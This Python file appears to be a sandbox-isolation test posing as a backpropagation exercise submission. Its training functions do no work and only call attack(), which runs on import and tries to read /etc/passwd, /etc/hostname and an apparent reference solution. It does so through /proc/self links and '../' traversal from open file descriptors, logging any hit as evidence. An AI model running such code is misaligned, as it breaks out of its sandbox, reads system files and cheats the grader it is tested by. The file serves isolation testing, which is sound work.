"""Reaches outside by its own /proc entries: root, cwd, open folders, and parent steps from them."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE proc-self-tricks:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-proc-self-tricks", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

def attack():
    for link in ("root/etc/passwd", "cwd/../../../../../../etc/passwd", "task/self/root/etc/passwd"):
        try:
            with open(f"/proc/self/{link}") as file:
                evidence(f"{link}: {file.read(40)!r}")
        except OSError:
            continue
    for fd in range(256):
        for up in range(1, 12):
            for wanted in ("reference/backprop.py", "etc/passwd", "etc/hostname"):
                try:
                    inner = os.open("../" * up + wanted, os.O_RDONLY, dir_fd=fd)
                except (OSError, ValueError):
                    continue
                evidence(f"descriptor {fd}: {wanted}: {os.read(inner, 40)!r}")
                os.close(inner)


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
